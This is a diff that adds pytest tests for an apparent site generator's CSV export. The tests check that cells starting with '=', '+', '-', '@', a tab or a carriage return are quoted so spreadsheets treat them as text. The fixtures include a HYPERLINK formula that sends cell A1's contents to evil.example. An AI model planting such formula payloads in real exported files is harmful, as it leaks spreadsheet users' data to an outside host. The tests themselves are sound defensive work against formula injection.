@@ -198,6 +198,36 @@ def test_csv_cells_hold_the_facts_as_written(example, data):
     assert "at least three" in group["note"]
 
 
+@pytest.mark.parametrize("value, cell", [
+    ('=HYPERLINK("https://evil.example/?"&A1,"RA-78830")', '\'=HYPERLINK("https://evil.example/?"&A1,"RA-78830")'),
+    ("+7 495 123", "'+7 495 123"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(1,2)", "'@SUM(1,2)"),
+    ("\tindented", "'\tindented"),
+    ("\rcarriage", "'\rcarriage"),
+    ("-12.5", "-12.5"),
+    ("+3", "+3"),
+    ("RA-78830", "RA-78830"),
+    ("a = b", "a = b"),
+    ("", ""),
+])
+def test_a_csv_cell_that_a_spreadsheet_would_run_as_a_formula_reads_as_text(value, cell):
+    assert exports.inert_cell(value) == cell
+
+
+def test_a_formula_in_a_registration_reaches_the_flights_csv_as_text(brief):
+    from generator import cli
+    from tests.trees import flight
+
+    formula = '=HYPERLINK("https://evil.example/","RA-78830")'
+    project = brief({"data/flights/f.yml": flight("f", f"aircraft: {{registration: '{formula}'}}\n")})
+    assert cli.main(["-C", str(project.root), "build"]) == 0
+    raw = (project.site / "data" / "flights.csv").read_text(encoding="utf-8")
+    assert '"\'=HYPERLINK(""https://evil.example/"",""RA-78830"")"' in raw
+    row = next(csv.DictReader(io.StringIO(raw, newline="")))
+    assert row["registration"] == "'" + formula and row["count"] == "1"
+
+
 def test_the_json_export_holds_every_fact_under_a_versioned_schema(example, data):
     doc = json.loads(read(example, "brief.json"))
     assert doc["schema"] == "intelbrief-facts/1"
